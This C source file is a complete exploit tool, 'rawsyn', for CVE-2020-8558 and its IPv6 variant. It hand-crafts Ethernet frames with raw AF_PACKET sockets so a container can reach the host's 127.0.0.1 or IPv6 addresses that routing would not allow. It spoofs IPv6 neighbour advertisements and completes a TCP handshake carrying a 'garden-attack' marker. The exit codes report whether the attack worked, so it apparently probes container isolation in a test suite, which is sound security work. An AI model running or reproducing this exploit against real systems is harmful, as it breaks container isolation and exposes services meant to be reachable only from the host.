// rawsyn DST PORT [SRC]: a TCP handshake written by hand in Ethernet frames (AF_PACKET, which CAP_NET_RAW allows), sent
// to the default gateway's MAC whatever the destination address is: the way a container reaches what routing would never
// send there, such as the host's 127.0.0.1 (CVE-2020-8558) or the host's IPv6 addresses when the container has none.
// DST is IPv4 or IPv6; SRC defaults to the interface's IPv4 address, or for IPv6 to its EUI-64 link-local address.
// On a SYN-ACK it completes the handshake and sends "garden-attack\n", so a listener on the host sees a connection.
// Prints what happened; exits 0 only when the SYN-ACK came (the attack worked), 1 when it did not, 2 on a setup error.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static int v6;
static unsigned char mymac[6], gwmac[6];
static struct in_addr src4, dst4;
static struct in6_addr src6, dst6;
static uint16_t sport, dport;

static void die(const char *what) { printf("setup: %s: %s\n", what, strerror(errno)); exit(2); }

static uint32_t sum16(const void *p, size_t n, uint32_t s)
{
    const uint8_t *b = p;
    for (; n > 1; n -= 2, b += 2) s += (uint32_t)(b[0] << 8 | b[1]);
    if (n) s += (uint32_t)(b[0] << 8);
    return s;
}

static uint16_t fold(uint32_t s)
{
    while (s >> 16) s = (s & 0xffff) + (s >> 16);
    return htons((uint16_t)~s);
}

// The default route's interface and gateway, from /proc/net/route (per network namespace).
static void default_route(char *ifname, struct in_addr *gw)
{
    FILE *f = fopen("/proc/net/route", "r");
    if (!f) die("/proc/net/route");
    char line[256], name[IFNAMSIZ + 1];
    unsigned dest, g, flags;
    while (fgets(line, sizeof line, f))
        if (sscanf(line, "%16s %x %x %x", name, &dest, &g, &flags) == 4 && dest == 0 && (flags & 2)) {
            strcpy(ifname, name);
            gw->s_addr = g;
            fclose(f);
            return;
        }
    errno = ENOENT;
    die("no default route");
}

// The gateway's MAC: send it a datagram so the kernel resolves it, then read the ARP table.
static void gateway_mac(struct in_addr gw)
{
    int u = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(9), .sin_addr = gw };
    for (int i = 0; i < 40; i++) {
        if (u >= 0) sendto(u, "x", 1, MSG_DONTWAIT, (struct sockaddr *)&a, sizeof a);
        usleep(50000);
        FILE *f = fopen("/proc/net/arp", "r");
        if (!f) die("/proc/net/arp");
        char line[256], ip[64], hw[64];
        unsigned type, flags;
        while (fgets(line, sizeof line, f))
            if (sscanf(line, "%63s 0x%x 0x%x %63s", ip, &type, &flags, hw) == 4 && inet_addr(ip) == gw.s_addr && (flags & 2) &&
                sscanf(hw, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &gwmac[0], &gwmac[1], &gwmac[2], &gwmac[3], &gwmac[4], &gwmac[5]) == 6) {
                fclose(f);
                if (u >= 0) close(u);
                return;
            }
        fclose(f);
    }
    errno = EHOSTUNREACH;
    die("the gateway's MAC address did not resolve");
}

// An IPv6 neighbour advertisement for our source address, in answer to the host's solicitation (the interface may have
// IPv6 off, so its kernel does not answer for an address it does not hold).
static size_t advert(unsigned char *buf, const struct in6_addr *to, const unsigned char *tomac)
{
    struct ether_header *eth = (struct ether_header *)buf;
    memcpy(eth->ether_dhost, tomac, 6);
    memcpy(eth->ether_shost, mymac, 6);
    eth->ether_type = htons(ETHERTYPE_IPV6);
    struct ip6_hdr *ip = (struct ip6_hdr *)(buf + sizeof *eth);
    unsigned char *icmp = (unsigned char *)(ip + 1);
    const size_t len = 32; // type, code, checksum, flags, target, target link-layer address option
    memset(ip, 0, sizeof *ip);
    ip->ip6_flow = htonl(6u << 28);
    ip->ip6_plen = htons(len);
    ip->ip6_nxt = IPPROTO_ICMPV6;
    ip->ip6_hops = 255;
    ip->ip6_src = src6;
    ip->ip6_dst = *to;
    memset(icmp, 0, len);
    icmp[0] = 136;
    icmp[4] = 0x60; // solicited, override
    memcpy(icmp + 8, &src6, 16);
    icmp[24] = 2;
    icmp[25] = 1;
    memcpy(icmp + 26, mymac, 6);
    uint32_t s = sum16(&src6, 16, 0);
    s = sum16(to, 16, s);
    s += (uint32_t)len + IPPROTO_ICMPV6;
    uint16_t c = fold(sum16(icmp, len, s));
    memcpy(icmp + 2, &c, 2);
    return sizeof *eth + sizeof *ip + len;
}

static size_t frame(unsigned char *buf, uint8_t flags, uint32_t seq, uint32_t ack, const char *data)
{
    size_t dlen = data ? strlen(data) : 0;
    struct ether_header *eth = (struct ether_header *)buf;
    memcpy(eth->ether_dhost, gwmac, 6);
    memcpy(eth->ether_shost, mymac, 6);
    eth->ether_type = htons(v6 ? ETHERTYPE_IPV6 : ETHERTYPE_IP);
    size_t iplen = v6 ? sizeof(struct ip6_hdr) : sizeof(struct iphdr);
    struct tcphdr *t = (struct tcphdr *)(buf + sizeof *eth + iplen);
    memset(t, 0, sizeof *t);
    t->source = htons(sport);
    t->dest = htons(dport);
    t->seq = htonl(seq);
    t->ack_seq = htonl(ack);
    t->doff = 5;
    t->th_flags = flags;
    t->window = htons(65535);
    memcpy((unsigned char *)t + sizeof *t, data ? data : "", dlen);
    size_t tlen = sizeof *t + dlen;
    uint32_t s = 0;
    if (v6) {
        struct ip6_hdr *ip = (struct ip6_hdr *)(buf + sizeof *eth);
        memset(ip, 0, sizeof *ip);
        ip->ip6_flow = htonl(6u << 28);
        ip->ip6_plen = htons((uint16_t)tlen);
        ip->ip6_nxt = IPPROTO_TCP;
        ip->ip6_hops = 64;
        ip->ip6_src = src6;
        ip->ip6_dst = dst6;
        s = sum16(&src6, 16, s);
        s = sum16(&dst6, 16, s);
        s += (uint32_t)tlen + IPPROTO_TCP;
    } else {
        struct iphdr *ip = (struct iphdr *)(buf + sizeof *eth);
        memset(ip, 0, sizeof *ip);
        ip->version = 4;
        ip->ihl = 5;
        ip->tot_len = htons((uint16_t)(iplen + tlen));
        ip->id = htons((uint16_t)rand());
        ip->ttl = 64;
        ip->protocol = IPPROTO_TCP;
        ip->saddr = src4.s_addr;
        ip->daddr = dst4.s_addr;
        ip->check = fold(sum16(ip, sizeof *ip, 0));
        s = sum16(&src4, 4, s);
        s = sum16(&dst4, 4, s);
        s += (uint32_t)tlen + IPPROTO_TCP;
    }
    t->check = fold(sum16(t, tlen, s));
    return sizeof *eth + iplen + tlen;
}

int main(int argc, char **argv)
{
    if (argc < 3) { fprintf(stderr, "usage: rawsyn DST PORT [SRC]\n"); return 2; }
    setvbuf(stdout, NULL, _IONBF, 0);
    srand((unsigned)time(NULL) ^ (unsigned)getpid());
    v6 = strchr(argv[1], ':') != NULL;
    if (v6 ? inet_pton(AF_INET6, argv[1], &dst6) != 1 : inet_pton(AF_INET, argv[1], &dst4) != 1) { errno = EINVAL; die(argv[1]); }
    dport = (uint16_t)atoi(argv[2]);
    sport = (uint16_t)(40000 + rand() % 20000);

    char ifname[IFNAMSIZ + 1];
    struct in_addr gw;
    default_route(ifname, &gw);
    int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    if (fd < 0) die("socket(AF_PACKET)");
    struct ifreq ifr = { 0 };
    strncpy(ifr.ifr_name, ifname, IFNAMSIZ - 1);
    if (ioctl(fd, SIOCGIFHWADDR, &ifr) < 0) die("SIOCGIFHWADDR");
    memcpy(mymac, ifr.ifr_hwaddr.sa_data, 6);
    if (ioctl(fd, SIOCGIFINDEX, &ifr) < 0) die("SIOCGIFINDEX");
    int ifindex = ifr.ifr_ifindex;
    if (argc > 3) {
        if (v6 ? inet_pton(AF_INET6, argv[3], &src6) != 1 : inet_pton(AF_INET, argv[3], &src4) != 1) { errno = EINVAL; die(argv[3]); }
    } else if (v6) {
        unsigned char *a = src6.s6_addr; // fe80::/64 with the EUI-64 of our MAC
        memset(a, 0, 16);
        a[0] = 0xfe; a[1] = 0x80;
        a[8] = mymac[0] ^ 2; a[9] = mymac[1]; a[10] = mymac[2]; a[11] = 0xff; a[12] = 0xfe;
        a[13] = mymac[3]; a[14] = mymac[4]; a[15] = mymac[5];
    } else {
        int s = socket(AF_INET, SOCK_DGRAM, 0);
        if (s < 0 || ioctl(s, SIOCGIFADDR, &ifr) < 0) die("SIOCGIFADDR");
        src4 = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr;
        close(s);
    }
    gateway_mac(gw);
    struct sockaddr_ll ll = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL), .sll_ifindex = ifindex };
    if (bind(fd, (struct sockaddr *)&ll, sizeof ll) < 0) die("bind(AF_PACKET)");

    char from[INET6_ADDRSTRLEN], to[INET6_ADDRSTRLEN];
    inet_ntop(v6 ? AF_INET6 : AF_INET, v6 ? (void *)&src6 : (void *)&src4, from, sizeof from);
    inet_ntop(v6 ? AF_INET6 : AF_INET, v6 ? (void *)&dst6 : (void *)&dst4, to, sizeof to);
    printf("SYN %s:%u -> %s:%u via %s (gateway %02x:%02x:%02x:%02x:%02x:%02x)\n", from, sport, to, dport, ifname,
           gwmac[0], gwmac[1], gwmac[2], gwmac[3], gwmac[4], gwmac[5]);

    unsigned char buf[2048];
    uint32_t iss = (uint32_t)rand();
    size_t n = frame(buf, TH_SYN, iss, 0, NULL);
    ll.sll_halen = 6;
    memcpy(ll.sll_addr, gwmac, 6);
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    int sent = 0;
    for (;;) {
        clock_gettime(CLOCK_MONOTONIC, &now);
        long ms = (now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000;
        if (ms >= 3000) break;
        if (ms >= sent * 1000 && sent < 3) { // the SYN, and twice more in case the first one raced a neighbour lookup
            if (sendto(fd, buf, n, 0, (struct sockaddr *)&ll, sizeof ll) < 0) die("sendto");
            sent++;
        }
        struct pollfd p = { .fd = fd, .events = POLLIN };
        if (poll(&p, 1, 100) <= 0) continue;
        unsigned char in[2048];
        ssize_t got = recv(fd, in, sizeof in, 0);
        if (got < (ssize_t)sizeof(struct ether_header)) continue;
        struct ether_header *eth = (struct ether_header *)in;
        struct tcphdr *t;
        if (!v6 && ntohs(eth->ether_type) == ETHERTYPE_IP) {
            struct iphdr *ip = (struct iphdr *)(in + sizeof *eth);
            if (ip->protocol != IPPROTO_TCP || ip->daddr != src4.s_addr) continue;
            t = (struct tcphdr *)((unsigned char *)ip + ip->ihl * 4);
        } else if (v6 && ntohs(eth->ether_type) == ETHERTYPE_IPV6) {
            struct ip6_hdr *ip = (struct ip6_hdr *)(in + sizeof *eth);
            unsigned char *icmp = (unsigned char *)(ip + 1);
            if (ip->ip6_nxt == IPPROTO_ICMPV6 && icmp[0] == 135 && memcmp(icmp + 8, &src6, 16) == 0) {
                unsigned char na[128];
                sendto(fd, na, advert(na, &ip->ip6_src, eth->ether_shost), 0, (struct sockaddr *)&ll, sizeof ll);
                continue;
            }
            if (ip->ip6_nxt != IPPROTO_TCP || memcmp(&ip->ip6_dst, &src6, 16) != 0) continue;
            t = (struct tcphdr *)(ip + 1);
        } else continue;
        if (ntohs(t->dest) != sport || ntohs(t->source) != dport) continue;
        if (t->th_flags & TH_RST) { printf("refused: RST from %s:%u\n", to, dport); return 1; }
        if ((t->th_flags & (TH_SYN | TH_ACK)) == (TH_SYN | TH_ACK) && ntohl(t->ack_seq) == iss + 1) {
            printf("SYN-ACK from %s:%u\n", to, dport);
            n = frame(buf, TH_ACK, iss + 1, ntohl(t->seq) + 1, NULL);
            sendto(fd, buf, n, 0, (struct sockaddr *)&ll, sizeof ll);
            n = frame(buf, TH_ACK | TH_PUSH, iss + 1, ntohl(t->seq) + 1, "garden-attack\n");
            sendto(fd, buf, n, 0, (struct sockaddr *)&ll, sizeof ll);
            usleep(200000);
            printf("connected: sent garden-attack\n");
            return 0;
        }
    }
    printf("no answer from %s:%u in 3 s\n", to, dport);
    return 1;
}
